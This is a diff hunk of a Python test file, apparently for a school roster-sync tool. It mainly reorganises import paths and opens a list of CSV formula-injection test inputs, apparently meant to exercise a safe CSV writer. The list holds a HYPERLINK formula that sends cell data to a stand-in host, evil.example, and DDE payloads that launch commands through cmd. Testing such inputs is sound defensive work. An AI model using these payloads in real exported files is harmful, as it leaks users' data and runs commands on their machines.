@@ -12,21 +12,21 @@ from fakeredis import FakeRedis
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ops.cli.sync_report import write_faults
-from ops.failures import write_failures
-from ops.report import Report
-from ops.report_page import as_text, page_of, title_of
-from producers.formulas import SafeWriter, guarded, unguarded
-from producers.grid import read_grid
-from producers.oneroster.fault import RowFault, Severity
-from producers.oneroster.passwords import Rule
+from ops.cli.commands.sync_output import write_faults
+from ops.reports.failures_csv import write_failures
+from ops.reports.markdown import as_text, page_of, title_of
+from ops.reports.report import Report
+from producers.files.csv_formulas import SafeWriter, guarded, unguarded
+from producers.files.table import read_grid
+from producers.oneroster.applying.passwords import Rule
+from producers.oneroster.reading.row_errors import RowFault, Severity
 from producers.oneroster.roster import Person, Role
 from tests.unit.ledger.hands import ENTRY, REFUSED, settled
 from tests.unit.stage import RING
-from worker.classin.errors import InvalidInput
+from worker.errors import InvalidInput
 from worker.ledger.batch import About, mark_of_file
-from worker.ledger.in_redis import RedisLedger
-from worker.ledger.job import Run, RunState
+from worker.ledger.schedule_models import Run, RunState
+from worker.ledger.store import RedisLedger
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/"&A2,"see")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C x'!A0",
